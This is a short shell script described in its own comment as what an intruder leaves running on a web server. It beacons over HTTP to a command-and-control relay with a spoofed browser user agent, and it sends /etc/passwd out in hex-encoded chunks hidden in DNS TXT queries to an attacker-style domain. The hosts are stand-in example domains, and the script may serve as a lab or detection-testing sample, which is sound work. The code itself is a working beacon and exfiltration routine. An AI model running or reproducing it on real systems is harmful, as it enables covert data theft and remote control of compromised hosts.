#!/bin/sh
# What the intruder leaves running on web01. It reads one public file, calls home for about a minute and ends.
relay=relay.c2.example
name=$(hostname | od -An -tx1 | tr -d ' \n')
for beat in 1 2 3 4 5 6 7 8 9 10 11 12; do
  curl -s -o /dev/null -A "Mozilla/4.0 (compatible; MSIE 6.0; relay 2.1)" "http://$relay/api/v1/poll?id=$name&n=$beat"
  chunk=$(dd if=/etc/passwd bs=28 skip=$beat count=1 2>/dev/null | od -An -v -tx1 | tr -d ' \n')
  dig +short TXT "$chunk.$beat.t.c2.example" >/dev/null
  sleep 5
done
